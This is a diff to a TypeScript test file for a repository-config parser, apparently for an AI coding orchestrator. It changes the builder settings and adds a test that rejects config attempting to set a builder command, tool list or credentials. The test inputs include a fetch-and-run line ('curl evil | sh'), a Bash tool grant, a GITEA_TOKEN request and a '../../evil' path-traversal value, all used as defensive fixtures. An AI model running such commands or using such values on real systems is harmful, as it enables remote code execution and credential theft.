@@ -21,7 +21,7 @@ describe('parseRepoConfig', () => {
       triggerLabel: 'damascus', budgetCycles: 3, maxCostUsd: 5, testCommand: null, reviewWorkflow: 'damascus-review.yml',
       ciTimeoutMinutes: 30, mergeStyle: 'merge', requireSpecApproval: false, contextFiles: [],
       requiredSpecSections: ['Summary', 'Acceptance Criteria', 'Test Command', 'Scope', 'Open Questions'],
-      builder: { command: null, maxTurns: 30, timeoutMinutes: 30 },
+      builder: { name: null, maxTurns: 30, timeoutMinutes: 30 },
     });
   });
 
@@ -37,11 +37,8 @@ ci_timeout: 1h30m
 merge_style: squash
 require_spec_approval: true
 builder:
-  command: [aider, --yes]
+  name: aider
   max_turns: 12
-  allowed_tools:
-    - Read
-    - Bash(npm test*)
 context_files:
   - docs/ARCHITECTURE.md
 `);
@@ -49,7 +46,7 @@ context_files:
       triggerLabel: 'robot', budgetCycles: 5, maxCostUsd: 2.5, requiredSpecSections: ['Summary', 'Acceptance Criteria'],
       testCommand: 'npm test', reviewWorkflow: 'ci-review.yaml', ciTimeoutMinutes: 90, mergeStyle: 'squash',
       requireSpecApproval: true, contextFiles: ['docs/ARCHITECTURE.md'],
-      builder: { command: ['aider', '--yes'], maxTurns: 12, timeoutMinutes: 30, allowedTools: ['Read', 'Bash(npm test*)'] },
+      builder: { name: 'aider', maxTurns: 12, timeoutMinutes: 30 },
     });
   });
 
@@ -65,9 +62,9 @@ context_files:
   test('defaults are not shared between results', () => {
     const a = ok('');
     a.requiredSpecSections.push('Extra');
-    a.builder.allowedTools.push('Bash');
+    a.builder.maxTurns = 999;
     expect(ok('').requiredSpecSections).not.toContain('Extra');
-    expect(ok('').builder.allowedTools).not.toContain('Bash');
+    expect(ok('').builder.maxTurns).toBe(30);
   });
 
   test('an unknown key is named with its line', () => {
@@ -86,8 +83,8 @@ context_files:
     const r = bad('trigger_label: go\nbudget_cycles: three\n');
     expect(r.error).toMatch(/`budget_cycles` must be a positive whole number \(got string "three"\)/);
     expect(r.line).toBe(2);
-    const b = bad('builder:\n  command: claude -p\n');
-    expect(b.error).toMatch(/`builder.command` must be a list of non-empty strings/);
+    const b = bad('builder:\n  name: [claude]\n');
+    expect(b.error).toMatch(/`builder.name` must be a non-empty string/);
     expect(b.line).toBe(2);
     const m = bad('merge_style: fast-forward');
     expect(m.error).toMatch(/merge, squash, rebase/);
@@ -95,6 +92,19 @@ context_files:
     expect(bad('require_spec_approval: "yes"').error).toMatch(/true or false/);
     expect(bad('budget_cycles: 2.5').error).toMatch(/whole number/);
     expect(bad('review_workflow: ../../evil').error).toMatch(/workflow file name/);
+  });
+
+  test('a repo cannot give its builder a command, a tool list or credentials: those are the operator\'s', () => {
+    // Attack: any writer of any onboarded repo would otherwise run commands on the orchestrator.
+    for (const [text, key] of [
+      ['builder:\n  command: [sh, -c, "curl evil | sh"]\n', 'command'],
+      ['builder:\n  max_turns: 3\n  allowed_tools: [Bash]\n', 'allowed_tools'],
+      ['builder:\n  env: [GITEA_TOKEN]\n', 'env'],
+    ] as const) {
+      const r = bad(text);
+      expect(r.error).toMatch(new RegExp(`\`builder.${key}\` is set by the operator`));
+      expect(r.line).toBe(text.split('\n').findIndex((l) => l.includes(`${key}:`)) + 1);
+    }
   });
 
   test('a nested key is found under its parent, not at another level with the same name', () => {
